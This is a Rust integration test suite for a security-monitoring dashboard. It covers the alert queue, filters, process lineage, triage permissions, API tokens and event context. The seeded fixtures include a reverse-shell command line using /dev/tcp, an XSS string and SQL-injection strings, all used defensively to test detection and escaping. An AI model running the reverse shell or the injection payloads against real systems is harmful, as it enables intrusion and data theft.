//! The SOC's daily work through the dashboard's HTTP doors, over a real ClickHouse with
//! seeded alerts and events: the queue's filters, groups, pages and counts; the alert
//! detail (rule, ATT&CK names, lineage, nearby events); triage with its rules; roles,
//! API tokens, sign-out everywhere, live arrival; and every refusal on the way.

use std::io::{Read, Write};
use std::time::Duration;

use serde_json::{json, Value};
use vigie_store::rows::{AlertRow, EventRow, RuleRow};
use vigie_tests::{csrf_of, http, json_of, sign_in, HttpResponse, Stack};

const MINUTE: u64 = 60_000;

fn event(seq: u64, ts: u64, category: &str, fields: Value) -> (EventRow, vigie_model::Event) {
    let event = vigie_model::Event {
        agent_id: "agent-web1".into(),
        hostname: "web1".into(),
        seq,
        ts,
        category: category.into(),
        fields: fields.as_object().unwrap().clone(),
    };
    let row = EventRow::received(&event, ts);
    (row, event)
}

#[allow(clippy::too_many_arguments)]
fn alert(
    id: &str,
    ts: u64,
    host: &str,
    rule: &str,
    severity: &str,
    target: &str,
    seq: u64,
    events: &[vigie_model::Event],
) -> AlertRow {
    AlertRow {
        date: vigie_store::date_of(ts),
        ts,
        created_ms: ts,
        alert_id: id.into(),
        agent_id: format!("agent-{host}"),
        hostname: host.into(),
        event_seq: seq,
        rule_id: rule.into(),
        rule_title: format!("Rule {rule}"),
        rule_title_fr: format!("Règle {rule}"),
        severity: severity.into(),
        tags: vec!["attack.execution".into(), "attack.t1059.004".into()],
        author: "Vigie".into(),
        summary: format!("{rule} on {host}: {target}"),
        target: target.into(),
        action: String::new(),
        events: serde_json::to_string(events).unwrap(),
        summary_fr: String::new(),
    }
}

fn get(port: u16, path: &str, auth: &(&str, &str)) -> HttpResponse {
    http(port, "GET", path, &[*auth], "")
}

fn post_json(port: u16, path: &str, headers: &[(&str, &str)], body: &Value) -> HttpResponse {
    let mut all = vec![("Content-Type", "application/json")];
    all.extend_from_slice(headers);
    http(port, "POST", path, &all, &body.to_string())
}

#[tokio::test(flavor = "multi_thread")]
async fn analysts_triage_auditors_read_admins_manage() {
    let stack = Stack::start("").await;
    let now = vigie_model::event::now_ms();
    // The start of the previous hour: the repeats below share one grouping window.
    let t0 = now / (60 * MINUTE) * (60 * MINUTE) - 60 * MINUTE;

    // A process chain on web1: bash (100) → python3 (200) → sh (300), and a file the
    // shell wrote. bash's own parent was never seen.
    let (bash_row, _) = event(
        1,
        t0,
        "process_creation",
        json!({"ProcessId": 100, "ParentProcessId": 1, "Image": "/usr/bin/bash", "CommandLine": "-bash", "User": "www-data", "ParentImage": "/usr/sbin/sshd"}),
    );
    let (py_row, _) = event(
        2,
        t0 + 1000,
        "process_creation",
        json!({"ProcessId": 200, "ParentProcessId": 100, "Image": "/usr/bin/python3", "CommandLine": "python3 -c 'import pty'", "User": "www-data"}),
    );
    let (sh_row, sh) = event(
        3,
        t0 + 2000,
        "process_creation",
        json!({"ProcessId": 300, "ParentProcessId": 200, "Image": "/bin/sh", "CommandLine": "sh -i >& /dev/tcp/10.0.0.9/4444 0>&1", "User": "www-data", "ParentImage": "/usr/bin/python3"}),
    );
    let (file_row, _) = event(
        4,
        t0 + 3000,
        "file_event",
        json!({"TargetFilename": "/tmp/.x", "Action": "created", "ProcessId": 300, "Image": "/bin/sh"}),
    );
    vigie_store::insert_rows(
        &stack.client,
        "events",
        &[bash_row, py_row, sh_row, file_row],
    )
    .await
    .unwrap();

    let xss = "<script>alert(1)</script>";
    let alerts = vec![
        alert(
            "a1",
            t0 + 2000,
            "web1",
            "r-shell",
            "high",
            "/bin/sh",
            3,
            std::slice::from_ref(&sh),
        ),
        // Three repeats of one rule on one host and subject: one line, count 3.
        alert(
            "b1",
            t0 + 5 * MINUTE,
            "web2",
            "r-scan",
            "medium",
            "10.0.0.5",
            10,
            &[],
        ),
        alert(
            "b2",
            t0 + 6 * MINUTE,
            "web2",
            "r-scan",
            "medium",
            "10.0.0.5",
            11,
            &[],
        ),
        alert(
            "b3",
            t0 + 7 * MINUTE,
            "web2",
            "r-scan",
            "medium",
            "10.0.0.5",
            12,
            &[],
        ),
        alert("c1", t0 + 8 * MINUTE, "web2", "r-fim", "low", xss, 13, &[]),
        alert(
            "d1",
            t0 + 9 * MINUTE,
            "db1",
            "r-miner",
            "critical",
            "/tmp/xmrig",
            14,
            &[],
        ),
        // An earlier alert of the shell rule on web1, a day before.
        alert(
            "a0",
            t0 - 24 * 60 * MINUTE,
            "web1",
            "r-shell",
            "high",
            "/bin/sh",
            0,
            &[],
        ),
    ];
    vigie_store::insert_rows(&stack.client, "alerts", &alerts)
        .await
        .unwrap();
    let rule = RuleRow {
        rule_id: "r-shell".into(),
        title: "Reverse shell".into(),
        title_fr: "Shell inversé".into(),
        description: "A shell wired to a network socket.".into(),
        level: "high".into(),
        author: "Vigie".into(),
        tags: vec!["attack.execution".into(), "attack.t1059.004".into()],
        updated_ms: now,
        source: "folder".into(),
        description_fr: String::new(),
        guidance: String::new(),
        guidance_fr: String::new(),
    };
    vigie_store::insert_rows(&stack.client, "rules", &[rule])
        .await
        .unwrap();

    let dashboard = stack.start_dashboard("admin-password-1").await;
    let port = dashboard.port;
    let admin = ("Cookie", dashboard.session.as_str());
    let admin_csrf = csrf_of(&get(port, "/alerts", &admin).body);

    // Pages and API answers are gzipped for clients that take it (64 kbit/s links).
    let encoding = |r: &HttpResponse| {
        r.headers
            .iter()
            .find(|(k, _)| k.eq_ignore_ascii_case("content-encoding"))
            .map(|(_, v)| v.clone())
    };
    for path in ["/alerts", "/api/v1/alerts"] {
        let gzipped = http(port, "GET", path, &[admin, ("Accept-Encoding", "gzip")], "");
        assert_eq!(gzipped.status, 200);
        assert_eq!(encoding(&gzipped).as_deref(), Some("gzip"), "{path}");
        assert_eq!(
            encoding(&get(port, path, &admin)),
            None,
            "{path} plain when not asked"
        );
    }

    // Accounts: an analyst and an auditor, made through the API.
    for (name, role) in [("ana", "analyst"), ("aud", "auditor")] {
        let r = post_json(
            port,
            "/api/v1/users",
            &[admin, ("X-CSRF-Token", &admin_csrf)],
            &json!({"username": name, "role": role, "password": "long-password-1"}),
        );
        assert_eq!(r.status, 201, "{}", r.body);
    }
    let refused = post_json(
        port,
        "/api/v1/users",
        &[admin, ("X-CSRF-Token", &admin_csrf)],
        &json!({"username": "Bad Name", "role": "analyst", "password": "long-password-1"}),
    );
    assert_eq!(refused.status, 400);
    assert_eq!(json_of(&refused)["code"], "bad_username");
    let last_admin = post_json(
        port,
        "/api/v1/users/admin",
        &[admin, ("X-CSRF-Token", &admin_csrf)],
        &json!({"role": "analyst"}),
    );
    assert_eq!(last_admin.status, 409, "{}", last_admin.body);
    let ana_cookie = sign_in(port, "ana", "long-password-1");
    let ana = ("Cookie", ana_cookie.as_str());
    let aud_cookie = sign_in(port, "aud", "long-password-1");
    let aud = ("Cookie", aud_cookie.as_str());

    // The queue: repeats grouped, counts per status, newest first.
    let queue = json_of(&get(port, "/api/v1/alerts?range=30d", &ana));
    let lines = queue["alerts"].as_array().unwrap();
    let ids: Vec<&str> = lines
        .iter()
        .map(|l| l["alert_id"].as_str().unwrap())
        .collect();
    assert_eq!(ids, ["d1", "c1", "b3", "a1", "a0"], "{queue}");
    assert_eq!(lines[2]["count"], 3);
    assert_eq!(queue["counts"]["new"], 7);
    // Filters, each a plain value even when it looks like SQL.
    let only = |query: &str| -> Vec<String> {
        let range = if query.contains("range=") {
            ""
        } else {
            "range=30d&"
        };
        let r = get(
            port,
            &format!("/api/v1/alerts?{range}group=0&{query}"),
            &ana,
        );
        assert_eq!(r.status, 200, "{query}: {}", r.body);
        json_of(&r)["alerts"]
            .as_array()
            .unwrap()
            .iter()
            .map(|l| l["alert_id"].as_str().unwrap().to_string())
            .collect()
    };
    assert_eq!(only("severity=critical"), ["d1"]);
    assert_eq!(only("severity=critical&severity=low"), ["d1", "c1"]);
    assert_eq!(only("host=web2&sort=oldest"), ["b1", "b2", "b3", "c1"]);
    assert_eq!(only("rule=r-shell"), ["a1", "a0"]);
    assert_eq!(
        only("host=WEB2&sort=oldest"),
        ["b1", "b2", "b3", "c1"],
        "any case"
    );
    assert_eq!(
        only("rule=LE%20R-SHELL"),
        ["a1", "a0"],
        "by words of its title"
    );
    assert_eq!(only("tag=T1059&host=db1"), ["d1"]);
    assert_eq!(only("q=XMRIG"), ["d1"]);
    assert!(only("q=%27%20OR%201%3D1%20--").is_empty());
    assert!(only("host=%27%20OR%20%271%27%3D%271").is_empty());
    assert_eq!(only("range=24h"), ["d1", "c1", "b3", "b2", "b1", "a1"]);
    assert_eq!(only("sort=severity")[0], "d1");
    let bad = get(port, "/api/v1/alerts?severity=urgent", &ana);
    assert_eq!(bad.status, 400);
    assert!(
        json_of(&bad)["detail"]
            .as_str()
            .unwrap()
            .starts_with("severity"),
        "{}",
        bad.body
    );
    let bad_fr = json_of(&get(port, "/api/v1/alerts?severity=urgent&lang=fr", &ana));
    assert!(
        bad_fr["detail"]
            .as_str()
            .unwrap()
            .contains("n'est pas l'une des valeurs"),
        "{bad_fr}"
    );
    // Pages by key: two at a time, no line twice, none missed.
    let mut seen = Vec::new();
    let mut next = String::new();
    loop {
        let r = json_of(&get(
            port,
            &format!("/api/v1/alerts?range=30d&group=0&limit=2{next}"),
            &ana,
        ));
        seen.extend(
            r["alerts"]
                .as_array()
                .unwrap()
                .iter()
                .map(|l| l["alert_id"].as_str().unwrap().to_string()),
        );
        match r["next"].as_str() {
            Some(cursor) => next = format!("&after={cursor}"),
            None => break,
        }
    }
    assert_eq!(seen, ["d1", "c1", "b3", "b2", "b1", "a1", "a0"]);

    // A hostile file name shows as text on every page.
    let page = get(port, "/alerts?range=30d&group=0", &ana);
    assert_eq!(page.status, 200);
    assert!(
        !page.body.contains(xss) && page.body.contains("&lt;script&gt;alert(1)&lt;/script&gt;")
    );
    let c1 = get(port, "/alerts/c1", &ana);
    assert!(
        !c1.body.contains(xss) && c1.body.contains("&lt;script&gt;"),
        "{}",
        c1.body
    );

    // The detail: rule, technique names, lineage from stored events, nearby events,
    // earlier alerts.
    let detail = json_of(&get(port, "/api/v1/alerts/a1", &aud));
    assert_eq!(
        detail["rule"]["description"],
        "A shell wired to a network socket."
    );
    assert_eq!(
        detail["techniques"][0][1],
        "Command and Scripting Interpreter: Unix Shell"
    );
    let lineage: Vec<u64> = detail["lineage"]
        .as_array()
        .unwrap()
        .iter()
        .map(|p| p["pid"].as_u64().unwrap())
        .collect();
    assert_eq!(lineage, [300, 200, 100, 1], "{}", detail["lineage"]);
    assert_eq!(
        detail["lineage"][3]["image"], "/usr/sbin/sshd",
        "named by its child"
    );
    assert_eq!(detail["lineage"][3]["seen"], false);
    assert!(detail["context"]["events"]
        .as_array()
        .unwrap()
        .iter()
        .any(|e| e["subject"] == "/tmp/.x"));
    assert_eq!(detail["earlier"][0]["alert_id"], "a0");
    let page = get(port, "/alerts/a1?lang=fr", &aud);
    assert!(page.body.contains("Shell inversé") && page.body.contains("Filiation des processus"));
    assert!(
        !page.body.contains("action=\"/alerts/triage\""),
        "auditors get no triage form"
    );
    assert_eq!(get(port, "/api/v1/alerts/nope", &aud).status, 404);

    // Triage: auditors cannot; analysts can, with reasons where required; CSRF checked.
    let triage = |who: (&str, &str), csrf: &str, body: Value| {
        post_json(
            port,
            "/api/v1/alerts/triage",
            &[who, ("X-CSRF-Token", csrf)],
            &body,
        )
    };
    let aud_csrf = csrf_of(&get(port, "/alerts", &aud).body);
    let ana_csrf = csrf_of(&get(port, "/alerts", &ana).body);
    assert_eq!(
        triage(
            aud,
            &aud_csrf,
            json!({"ids": ["a1"], "action": "acknowledge"})
        )
        .status,
        403
    );
    assert_eq!(
        triage(
            ana,
            "wrong",
            json!({"ids": ["a1"], "action": "acknowledge"})
        )
        .status,
        403
    );
    let no_reason = triage(
        ana,
        &ana_csrf,
        json!({"ids": ["a1"], "action": "status", "status": "false_positive"}),
    );
    assert_eq!(no_reason.status, 400);
    assert_eq!(json_of(&no_reason)["code"], "triage_reason_required");
    assert_eq!(
        triage(
            ana,
            &ana_csrf,
            json!({"ids": ["zz9"], "action": "acknowledge"})
        )
        .status,
        404
    );
    let unknown_user = triage(
        ana,
        &ana_csrf,
        json!({"ids": ["a1"], "action": "assign", "assignee": "nobody"}),
    );
    assert_eq!(json_of(&unknown_user)["code"], "triage_unknown_user");
    for body in [
        json!({"ids": ["a1"], "action": "acknowledge"}),
        json!({"ids": ["a1"], "action": "assign", "assignee": "ana"}),
        json!({"ids": ["a1"], "action": "comment", "comment": "looking at the web server logs"}),
        json!({"ids": ["a1"], "action": "status", "status": "resolved", "comment": "web shell removed, password changed"}),
    ] {
        let r = triage(ana, &ana_csrf, body);
        assert_eq!(json_of(&r)["recorded"], 1, "{}", r.body);
    }
    // Bulk, on a grouped line: all three repeats.
    let bulk = triage(
        ana,
        &ana_csrf,
        json!({"ids": ["b3"], "grouped": true, "action": "status", "status": "in_progress"}),
    );
    assert_eq!(json_of(&bulk)["recorded"], 3, "{}", bulk.body);
    // A form, as the queue sends it.
    let form = http(
        port,
        "POST",
        "/alerts/triage",
        &[ana, ("Content-Type", "application/x-www-form-urlencoded")],
        &format!("csrf={ana_csrf}&id=c1&id=d1&grouped=0&action=status&status=false_positive&comment=test+host&return=range%3D30d"),
    );
    assert_eq!(form.status, 303, "{}", form.body);
    let counts = json_of(&get(port, "/api/v1/alerts?range=30d", &aud))["counts"].clone();
    assert_eq!(
        counts,
        json!({"new": 1, "in_progress": 3, "resolved": 1, "false_positive": 2})
    );
    assert_eq!(only("status=in_progress"), ["b3", "b2", "b1"]);
    let history = json_of(&get(port, "/api/v1/alerts/a1", &aud));
    assert_eq!(history["status"], "resolved");
    assert_eq!(history["assignee"], "ana");
    let steps = history["history"].as_array().unwrap();
    assert_eq!(steps.len(), 4);
    assert!(steps.iter().all(|s| s["actor"] == "ana"));
    assert_eq!(steps[3]["comment"], "web shell removed, password changed");
    assert_eq!(
        stack.count("SELECT count() FROM alert_actions").await,
        9,
        "append-only rows"
    );

    // Roles for accounts: only admins.
    assert_eq!(get(port, "/api/v1/users", &ana).status, 403);
    assert_eq!(get(port, "/admin/users", &aud).status, 403);
    assert_eq!(get(port, "/api/v1/users", &admin).status, 200);

    // API tokens: at most the maker's role; revoked ones stop at once; tokens make none.
    let made = post_json(
        port,
        "/api/v1/tokens",
        &[ana, ("X-CSRF-Token", &ana_csrf)],
        &json!({"name": "siem", "role": "auditor"}),
    );
    assert_eq!(made.status, 201, "{}", made.body);
    let made = json_of(&made);
    let bearer = format!("Bearer {}", made["token"].as_str().unwrap());
    let token = ("Authorization", bearer.as_str());
    assert_eq!(get(port, "/api/v1/alerts?range=30d", &token).status, 200);
    assert_eq!(
        post_json(
            port,
            "/api/v1/alerts/triage",
            &[token],
            &json!({"ids": ["a1"], "action": "acknowledge"})
        )
        .status,
        403,
        "an auditor token cannot triage"
    );
    assert_eq!(
        post_json(port, "/api/v1/tokens", &[token], &json!({"name": "x"})).status,
        403
    );
    let too_much = post_json(
        port,
        "/api/v1/tokens",
        &[ana, ("X-CSRF-Token", &ana_csrf)],
        &json!({"name": "x", "role": "admin"}),
    );
    assert_eq!(too_much.status, 403);
    let revoke = http(
        port,
        "POST",
        &format!("/tokens/{}/revoke", made["token_id"].as_str().unwrap()),
        &[ana, ("Content-Type", "application/x-www-form-urlencoded")],
        &format!("csrf={ana_csrf}"),
    );
    assert_eq!(revoke.status, 303, "{}", revoke.body);
    let gone = get(port, "/api/v1/alerts", &token);
    assert_eq!(gone.status, 401);
    assert_eq!(json_of(&gone)["code"], "bad_token");
    assert_eq!(
        get(
            port,
            "/api/v1/alerts",
            &("Authorization", "Bearer vgt_forged_xyz")
        )
        .status,
        401
    );

    // Without a session: pages send to the login form, the API says 401.
    assert_eq!(http(port, "GET", "/alerts/a1", &[], "").status, 303);
    assert_eq!(http(port, "GET", "/api/v1/alerts/a1", &[], "").status, 401);
    assert_eq!(http(port, "GET", "/admin/users", &[], "").status, 303);

    // New alerts arrive on the stream without reloading.
    let mut stream = std::net::TcpStream::connect(("127.0.0.1", port)).unwrap();
    stream
        .set_read_timeout(Some(Duration::from_secs(15)))
        .unwrap();
    write!(
        stream,
        "GET /api/v1/alerts/stream HTTP/1.1\r\nHost: x\r\nCookie: {aud_cookie}\r\n\r\n"
    )
    .unwrap();
    tokio::time::sleep(Duration::from_millis(500)).await;
    let fresh = alert(
        "e1",
        vigie_model::event::now_ms(),
        "web3",
        "r-new",
        "high",
        "/etc/passwd",
        20,
        &[],
    );
    let fresh = AlertRow {
        created_ms: vigie_model::event::now_ms() + 1000,
        ..fresh
    };
    vigie_store::insert_rows(&stack.client, "alerts", &[fresh])
        .await
        .unwrap();
    let mut received = String::new();
    let mut buffer = [0u8; 4096];
    while !received.contains("\"alert_id\":\"e1\"") {
        let n = stream
            .read(&mut buffer)
            .expect("the stream sends the new alert");
        assert!(n > 0, "stream closed: {received}");
        received.push_str(&String::from_utf8_lossy(&buffer[..n]));
    }
    assert!(received.contains("event: alert"), "{received}");

    // Sign-out everywhere ends the user's other sessions.
    let other = sign_in(port, "ana", "long-password-1");
    let out = http(
        port,
        "POST",
        "/logout/everywhere",
        &[ana, ("Content-Type", "application/x-www-form-urlencoded")],
        &format!("csrf={ana_csrf}"),
    );
    assert_eq!(out.status, 303);
    assert_eq!(
        get(port, "/alerts", &("Cookie", other.as_str())).status,
        303
    );
    assert_eq!(
        get(port, "/alerts", &aud).status,
        200,
        "others stay signed in"
    );
}

/// Issue #15: the host's events around an alert are centred on it, 25 each side, with
/// what each is about (command lines for processes), paged both ways; an end that is
/// cut says so, and the other host's events never mix in.
#[tokio::test(flavor = "multi_thread")]
async fn the_context_of_an_alert_is_centred_paged_and_says_when_it_is_cut() {
    let stack = Stack::start("").await;
    let t0 = vigie_model::event::now_ms() - 30 * MINUTE;
    // 200 events of web1, one a second, processes and file changes in turn; the alert
    // is on the 100th. Another host's events at the same times.
    let mut rows = Vec::new();
    let mut alert_event = None;
    for seq in 1..=200u64 {
        let ts = t0 + seq * 1_000;
        let (row, stored) = if seq % 2 == 0 {
            event(
                seq,
                ts,
                "process_creation",
                json!({"Image": "/usr/bin/curl", "CommandLine": format!("curl -s http://10.0.0.{seq}/x"),
                       "ProcessId": 1000 + seq, "User": "www-data"}),
            )
        } else {
            event(
                seq,
                ts,
                "file_event",
                json!({"TargetFilename": format!("/tmp/f{seq}"), "Action": "created"}),
            )
        };
        if seq == 100 {
            alert_event = Some(stored);
        }
        rows.push(row);
        let (mut other, _) = event(
            seq,
            ts,
            "file_event",
            json!({"TargetFilename": "/elsewhere"}),
        );
        other.agent_id = "agent-db1".into();
        other.hostname = "db1".into();
        rows.push(other);
    }
    vigie_store::insert_rows(&stack.client, "events", &rows)
        .await
        .unwrap();
    let alert_event = alert_event.unwrap();
    vigie_store::insert_rows(
        &stack.client,
        "alerts",
        &[alert(
            "x1",
            alert_event.ts,
            "web1",
            "r-curl",
            "high",
            "/usr/bin/curl",
            100,
            std::slice::from_ref(&alert_event),
        )],
    )
    .await
    .unwrap();
    let dashboard = stack.start_dashboard("admin-password-1").await;
    let (port, admin) = (dashboard.port, dashboard.session.clone());
    let auth = ("Cookie", admin.as_str());
    let context = |query: &str| {
        let r = get(port, &format!("/api/v1/alerts/x1{query}"), &auth);
        assert_eq!(r.status, 200, "{}", r.body);
        json_of(&r)["context"].clone()
    };
    let seqs = |c: &Value| -> Vec<u64> {
        c["events"]
            .as_array()
            .unwrap()
            .iter()
            .map(|e| e["seq"].as_u64().unwrap())
            .collect()
    };

    // Centred: 25 before the alert's event, it, and 24 after; more either side.
    let c = context("");
    assert_eq!(seqs(&c), (75..=124).collect::<Vec<_>>());
    assert_eq!(
        (c["more_before"].as_bool(), c["more_after"].as_bool()),
        (Some(true), Some(true))
    );
    let here: Vec<&Value> = c["events"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|e| e["is_alert"] == true)
        .collect();
    assert_eq!(here.len(), 1);
    assert_eq!(
        here[0]["subject"], "curl -s http://10.0.0.100/x",
        "a process by its command line"
    );
    assert_eq!(here[0]["image"], "/usr/bin/curl");
    assert_eq!(c["events"][0]["subject"], "/tmp/f75");

    // Paged earlier from the first shown, down to the start, which says it is the start.
    let first = &c["events"][0];
    let earlier = context(&format!("?around={}-{}", first["ts"], first["seq"]));
    assert_eq!(seqs(&earlier), (50..=99).collect::<Vec<_>>());
    let start = context(&format!("?around={}-1", t0 + 1_000));
    assert_eq!(seqs(&start), (1..=25).collect::<Vec<_>>());
    assert_eq!(start["more_before"], false);
    let end = context(&format!("?around={}-200", t0 + 200_000));
    assert_eq!(seqs(&end).first(), Some(&175));
    assert_eq!(
        (end["more_before"].as_bool(), end["more_after"].as_bool()),
        (Some(true), Some(false))
    );

    // The page: the alert's row marked, links both ways; bad centres refused by name.
    let page = get(port, "/alerts/x1", &auth);
    for needle in [
        "id=\"context-earlier\"",
        "id=\"context-later\"",
        "class=\"here\"",
        "curl -s http://10.0.0.100/x",
    ] {
        assert!(page.body.contains(needle), "page lacks {needle}");
    }
    assert!(!page.body.contains("/elsewhere"), "another host's events");
    for bad in ["?around=yesterday", "?around=1-2-3", "?centre=1-2"] {
        let r = get(port, &format!("/api/v1/alerts/x1{bad}"), &auth);
        assert_eq!(r.status, 400, "{bad}");
        let name = if bad.contains("centre") {
            "centre"
        } else {
            "around"
        };
        assert!(
            json_of(&r)["detail"].as_str().unwrap().starts_with(name),
            "{bad}: {}",
            r.body
        );
    }
}
